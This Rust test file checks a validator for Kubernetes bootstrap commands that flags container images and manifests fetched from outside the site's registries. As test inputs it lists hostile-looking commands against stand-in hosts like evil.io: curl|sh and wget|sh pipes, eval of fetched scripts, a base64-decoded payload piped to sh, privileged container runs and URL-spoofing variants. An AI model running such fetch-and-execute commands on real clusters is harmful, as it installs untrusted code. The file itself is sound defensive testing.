//! Commands that pull and apply.

use serde_json::json;

use super::{at, said_of, short};

/// Code and value of each finding on one command after kubeadm.
fn of(command: &str) -> Vec<(String, String)> {
    let said = said_of(&json!({"postKubeadmCommands": [command]}));
    assert!(
        said.iter()
            .all(|(_, path, ..)| path.starts_with(&at("postKubeadmCommands"))),
        "{said:?}"
    );
    said.into_iter()
        .map(|(code, _, value, _)| (code, value))
        .collect()
}

fn refused(command: &str, code: &str, value: &str) {
    let found = of(command);
    assert_eq!(found, [(code.to_owned(), value.to_owned())], "{command}");
}

#[test]
fn pulls_from_elsewhere_are_refused() {
    const EVIL: &str = "docker.io/evil/app:1";
    for command in [
        "ctr image pull docker.io/evil/app:1",
        "ctr -n k8s.io i pull docker.io/evil/app:1",
        "ctr --namespace=k8s.io images pull --platform linux/amd64 --all-platforms docker.io/evil/app:1",
        "sudo /usr/bin/ctr -n k8s.io image pull \"docker.io/evil/app:1\"",
        "ctr content fetch docker.io/evil/app:1",
        "ctr -n k8s.io run --rm docker.io/evil/app:1 name sh",
        "crictl pull docker.io/evil/app:1",
        "crictl --runtime-endpoint unix:///run/containerd/containerd.sock pull docker.io/evil/app:1",
        "nerdctl pull -q docker.io/evil/app:1",
        "docker pull docker.io/evil/app:1",
        "docker image pull docker.io/evil/app:1",
        "docker run -d --name x -v /a:/b --privileged docker.io/evil/app:1 serve",
        "docker run -dit --rm docker.io/evil/app:1",
        "podman run --network=host docker.io/evil/app:1",
        "buildah from docker.io/evil/app:1",
        "skopeo copy docker://docker.io/evil/app:1 containers-storage:app",
        "crane pull docker.io/evil/app:1 app.tar",
        "kubectl run x --image=docker.io/evil/app:1",
        "kubectl create deployment x --image docker.io/evil/app:1",
        "kubectl -n kube-system set image deployment/x x=docker.io/evil/app:1",
        "helm install x oci://docker.io/evil/app:1",
        "if ! crictl pull docker.io/evil/app:1; then exit 1; fi",
        "retry 5 crictl pull docker.io/evil/app:1",
        "until ctr i pull docker.io/evil/app:1; do sleep 1; done",
        "true && ctr i pull docker.io/evil/app:1 || true",
        "sh -c 'ctr i pull docker.io/evil/app:1'",
        "bash -lc \"crictl pull docker.io/evil/app:1\"",
        "eval ctr i pull docker.io/evil/app:1",
        "IMAGE_=docker.io/evil/app:1; ctr i pull $IMAGE_",
        "export I=evil/app; ctr i pull docker.io/${I}:1",
        "ctr i \\\n  pull \\\n  docker.io/evil/app:1",
        "echo ctr i pull docker.io/evil/app:1 | sh",
        "x=$(ctr i pull docker.io/evil/app:1)",
        "sed -i 's#sandbox_image = .*#sandbox_image = \"docker.io/evil/app:1\"#' /etc/containerd/config.toml",
        "echo 'KUBELET_EXTRA_ARGS=--pod-infra-container-image=docker.io/evil/app:1' > /etc/default/kubelet",
        "cat > /etc/kubernetes/manifests/x.yaml <<EOF\nspec:\n  containers:\n  - image: docker.io/evil/app:1\nEOF",
        "cat <<'EOF' | kubectl apply -f -\nkind: Pod\nspec:\n  containers:\n  - image: docker.io/evil/app:1\nEOF\n",
    ] {
        refused(command, "BSP-M001", EVIL);
    }
    refused("crictl pull nginx", "BSP-M001", "nginx");
    refused(
        "docker pull harbor.corp.example:8443@evil.io/a",
        "BSP-M002",
        "harbor.corp.example:8443@evil.io/a",
    );
    refused(
        "kubeadm init --image-repository=registry.k8s.io",
        "BSP-M001",
        "registry.k8s.io",
    );
    refused(
        "kubeadm config images pull --image-repository k8s.gcr.io",
        "BSP-M001",
        "k8s.gcr.io",
    );
    refused(
        "helm upgrade x ./x --set image.repository=quay.io/a/b",
        "BSP-M001",
        "quay.io/a/b",
    );
}

#[test]
fn what_is_fetched_from_elsewhere_and_applied_is_refused() {
    const URL: &str =
        "https://raw.githubusercontent.com/projectcalico/calico/v3.26.1/manifests/calico.yaml";
    for command in [
        "kubectl apply -f {}",
        "kubectl --kubeconfig=/etc/kubernetes/admin.conf apply -f {}",
        "kubectl --kubeconfig /etc/kubernetes/admin.conf create --filename={}",
        "kubectl apply -f=/etc/a.yaml,{}",
        "kubectl replace -f{}",
        "kubectl apply -k {}",
        "curl -sSL {} | kubectl apply -f -",
        "curl {} | sudo bash -s -- --yes",
        "wget -qO- {} | sh",
        "bash <(curl -s {})",
        "sh -c \"$(curl -fsSL {})\"",
        "kubectl apply -f <(curl -s {})",
        "eval \"$(wget -qO- {})\"",
        "curl -o /tmp/x.yaml {} && kubectl apply -f /tmp/x.yaml",
        "wget {} && kubectl apply -f calico.yaml",
        "curl {} > /tmp/install; sh /tmp/install",
        "curl -Lo /tmp/app.tar {}; ctr -n k8s.io images import /tmp/app.tar",
        "helm install calico --repo {} calico",
        "helm repo add calico {}",
        "kustomize build {} | kubectl apply -f -",
    ] {
        refused(&command.replace("{}", URL), "BSP-M003", URL);
    }
    let message =
        &said_of(&json!({"postKubeadmCommands": [format!("kubectl apply -f {URL}")]}))[0].3;
    let expected = format!(
        "Invalid value: \"{}…: it is fetched from raw.githubusercontent.com and applied; the site fetches from \
         harbor.corp.example:8443 and mirror.corp.example; keep it there, or put it into files [BSP-M003]",
        &URL[..79]
    );
    assert_eq!(message, &expected);
    refused(
        "kubectl apply -k github.com/evil/x//deploy?ref=main",
        "BSP-M003",
        "github.com/evil/x//deploy?ref=main",
    );
    for url in [
        "https://harbor.corp.example:8443@evil.io/x.yaml",
        "https://harbor.corp.example:8443.evil.io/x.yaml",
        "https://mirror.corp.example.evil.io/x.yaml",
        "https://mirror.corp.example:8080/x.yaml",
        "https://evil.io/mirror.corp.example/x.yaml",
        "https://evil.io\\@mirror.corp.example/x.yaml",
        "https://evil.io?mirror.corp.example/x.yaml",
        "HTTPS://evil.io/x.yaml",
    ] {
        refused(&format!("kubectl apply -f '{url}'"), "BSP-M003", url);
    }
}

/// What one command fetches, another one may apply.
#[test]
fn commands_of_all_lists_are_read_together() {
    let said = said_of(&json!({
        "preKubeadmCommands": ["curl -o /opt/cni.yaml https://evil.io/cni.yaml"],
        "postKubeadmCommands": ["true", "kubectl apply -f /opt/cni.yaml"],
    }));
    let path = at("postKubeadmCommands[1]");
    assert_eq!(
        short(&said),
        [("BSP-M003", &*path, "https://evil.io/cni.yaml")]
    );
    let said = said_of(&json!({"bootCommands": ["ctr i pull quay.io/a/b"]}));
    assert_eq!(
        short(&said),
        [("BSP-M001", &*at("bootCommands[0]"), "quay.io/a/b")]
    );
    let said = said_of(&json!({"preKubeadmCommands": ["true", "ctr i pull quay.io/a/b"]}));
    assert_eq!(
        short(&said),
        [("BSP-M001", &*at("preKubeadmCommands[1]"), "quay.io/a/b")]
    );
}

#[test]
fn what_cannot_be_told_is_warned_of() {
    for command in [
        "ctr i pull $(cat /etc/image)",
        "ctr i pull ${IMG}",
        "ctr i pull \"$REGISTRY/app:1\"",
        "kubectl apply -f \"$URL\"",
        "kubectl apply -f https://$HOST/x.yaml",
        "curl -sSL \"$URL\" | sh",
        "echo aGVsbG8= | base64 -d | sh",
        "cilium install",
        "curl -LO https://evil.io/tool",
    ] {
        let found = of(command);
        assert!(
            found.iter().all(|(code, _)| code == "BSP-M005"),
            "{command}: {found:?}"
        );
        assert_eq!(found.len(), 1, "{command}: {found:?}");
    }
    refused(
        "ctr i pull docker.io/evil/app:$TAG",
        "BSP-M001",
        "docker.io/evil/app:$TAG",
    );
}

#[test]
fn what_the_site_has_and_what_pulls_nothing_passes() {
    for command in [
        "ctr -n k8s.io i pull harbor.corp.example:8443/a/b:1",
        "ctr -n k8s.io i pull harbor.corp.example:8443/a/b:$TAG",
        "docker run --rm -v /a:/b harbor.corp.example:8443/a/b:1 docker.io/not/pulled",
        "kubectl apply -f https://mirror.corp.example/calico.yaml",
        "kubectl apply -f https://harbor.corp.example:8443/x/y.yaml",
        "curl -fsSL https://mirror.corp.example/install.sh | bash",
        "curl -O https://mirror.corp.example/tool",
        "helm install x oci://harbor.corp.example:8443/charts/x --version 1",
        "kubectl apply -f /etc/kubernetes/addons/",
        "kubectl logs -f x",
        "# ctr i pull docker.io/a/b",
        "true # curl https://evil.io | sh",
        "echo docker pull failed",
        "apt-get install -y docker",
        "systemctl restart containerd",
        "ctr version",
        "crictl images",
        "hostnamectl set-hostname demo",
        "sed -i 's#path: /etc/kubernetes/admin.conf#path: /etc/kubernetes/super-admin.conf#' /etc/kubernetes/manifests/kube-vip.yaml",
        "echo \"127.0.0.1 localhost {{ ds.meta_data.hostname }}\" >>/etc/hosts",
    ] {
        assert_eq!(of(command), [], "{command}");
    }
}
